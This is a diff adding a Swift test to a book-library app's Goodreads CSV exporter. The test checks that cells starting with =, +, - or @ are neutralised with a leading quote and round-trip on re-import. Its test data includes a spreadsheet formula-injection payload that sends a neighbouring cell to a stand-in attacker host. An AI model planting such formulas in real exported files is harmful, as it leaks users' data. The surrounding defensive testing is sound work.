@@ -182,6 +182,48 @@ import Testing
         }
     }
 
+    /// A cell that starts like a formula is one to a spreadsheet: `=HYPERLINK(…&A1…)` would send
+    /// the next cell to a stranger. Such cells get a leading quote (OWASP's rule), which the
+    /// Goodreads import takes off again, so the round trip stays byte for byte.
+    @Test func csvCellsThatLookLikeFormulasAreNeutralisedAndRoundTrip() throws {
+        let shelf = try TemporaryShelf()
+        let title = #"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#
+        let book = try shelf.library.addBook(
+            NewBook(
+                title: title, authors: ["@Someone", "+Plus One"], publisher: "-Minus Press", status: .read,
+                rating: try Rating(2), shelves: ["=SUM(A1:A9)"]))
+        try NoteStore(folder: shelf.paths.notes).writeNote(
+            "-1 stars.\u{0}\n\n=1+1 is not a review\n", forSlug: book.book.slug)
+        let exporter = LibraryExporter(library: shelf.library, notes: NoteStore(folder: shelf.paths.notes))
+        let first = try exporter.goodreadsCSV()
+        #expect(!first.contains(0))
+        let records = CSVParser().parse([UInt8](first))
+        let header = records[0].fields
+        let row = Dictionary(uniqueKeysWithValues: zip(header, records[1].fields))
+        #expect(row["Title"] == "'" + title)
+        #expect(row["Author"] == "'@Someone" && row["Additional Authors"] == "'+Plus One")
+        #expect(row["Publisher"] == "'-Minus Press")
+        #expect(row["Bookshelves"] == "'=SUM(A1:A9), read")
+        #expect(row["My Review"] == "'-1 stars.\n\n=1+1 is not a review")
+        // Bookplate's own formulas, as Goodreads writes ISBNs, and plain numbers stay as they are.
+        #expect(row["ISBN"] == #"="""# && row["My Rating"] == "2")
+        for field in records[1].fields where !field.hasPrefix("=\"") {
+            #expect(!"=+-@\t\r".contains(field.first ?? " "), "\(field)")
+        }
+
+        let file = try TestPaths.temporaryFolder("export").appendingPathComponent("export.csv")
+        try first.write(to: file)
+        let fresh = try TemporaryShelf()
+        let report = try ShelfImport(library: fresh.library, notes: NoteStore(folder: fresh.paths.notes)).run(
+            file: file, as: .goodreads)
+        #expect(report.summary.added.count == 1 && report.summary.skipped.isEmpty)
+        let imported = try fresh.library.findBook(matching: book.book.slug)
+        #expect(imported.book.title == title && imported.authors.map(\.name) == ["@Someone", "+Plus One"])
+        let second = try LibraryExporter(library: fresh.library, notes: NoteStore(folder: fresh.paths.notes))
+            .goodreadsCSV()
+        #expect(first == second, "\(GoldenFiles.readableDiff(first, second))")
+    }
+
     @Test func theJSONExportHoldsEverything() throws {
         let shelf = try FixtureShelf.make()
         let data = try LibraryExporter(library: shelf.library, notes: NoteStore(folder: shelf.paths.notes)).json()
